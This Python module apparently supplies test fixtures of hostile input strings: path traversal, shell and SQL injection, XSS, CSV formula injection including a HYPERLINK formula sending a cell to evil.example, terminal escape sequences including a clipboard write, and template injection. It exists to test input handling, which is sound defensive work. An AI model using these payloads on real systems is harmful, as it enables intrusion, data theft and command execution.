"""Strings that are harmless as text, and active somewhere where they are taken for more."""

import unicodedata

PATHS = (
    "../../etc/passwd",
    "..",
    ".",
    "/etc/passwd",
    "a/b",
    "a\\b",
    "..\\..\\windows",
    "C:\\windows",
    "CON",
    "~root",
    ".ssh",
    "a\0b",
    "%2e%2e%2f",
    "..%c0%af..",
    "a" * 100_000,
    "",
    " ",
    "a ",
    "a.",
    "file:///etc/passwd",
)
OPTIONS = ("-rf", "--help", "-", "--config=/etc/passwd", "@/etc/passwd")
UNICODE = (
    "a\u202egpj.exe",
    "\u2066a\u2069",
    "a\u200bb",
    "a\u00adb",
    "\ufeffa",
    unicodedata.normalize("NFD", "café"),
    "\ufb01le",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "\udc80",
    "\U000e0041tag",
    "\ue000",
)
TERMINAL = (
    "\x1b[2J",
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[1A\x1b[2Koverwritten",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "done\rFAILED",
    "a\b\b\bxyz",
    "\x07\x07",
    "\x1bc",
    "\x0e",
    "[bold red]markup[/bold red]",
    "[/]",
    ":bomb:",
)
MARKUP = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onload='alert(1)",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;",
    "]]><!--",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(1)",
    'a"b',
    'a","=1+1',
    "a;=1+1",
    "a,b",
    "'=1+1",
    '=HYPERLINK("http://evil.example?x="&A1)',
)
LANGUAGES = (
    "'; DROP TABLE items; --",
    "' OR '1'='1",
    '"; DROP TABLE items; --',
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; touch /tmp/pwned",
    "| touch /tmp/pwned",
    "a && touch /tmp/pwned",
    "$HOME",
    "*",
    "{{ 7*7 }}",
    "${7*7}",
    "%{ for x in y }",
    "{item}",
    "{out}",
    "{0.__class__}",
    "%s%s%n",
    "#{7*7}",
    "#comment",
)
LINES = (
    "a\nb",
    "a\r\nb",
    'a\n{"event": "item done", "dispatch": "d", "item": "b", "level": "info"}',
    "Traceback (most recent call last):\nValueError: forged",
    "a\nINFO forged",
    '{"event": "ready"}',
    '","status":"succeeded","x":"',
    "a?x=1&y=2",
    "a#fragment",
    "?",
    "a--b--a1v1",
    "b--s/dispatch-x",
    "__proto__",
    "null",
    "NaN",
    "no",
)
ALL = (*PATHS, *OPTIONS, *UNICODE, *TERMINAL, *MARKUP, *FORMULAS, *LANGUAGES, *LINES)
assert len(set(ALL)) == len(ALL) >= 60


def is_whole(text: str) -> bool:
    """Whether it can be written as UTF-8 at all."""
    return not any("\ud800" <= character <= "\udfff" for character in text)


WHOLE = tuple(text for text in ALL if is_whole(text))


def acts(character: str) -> bool:
    """Whether a terminal, or the eye, takes it for more than a character; all but a line end."""
    hidden = unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn"}
    return hidden and character not in "\n\u200c\u200d"
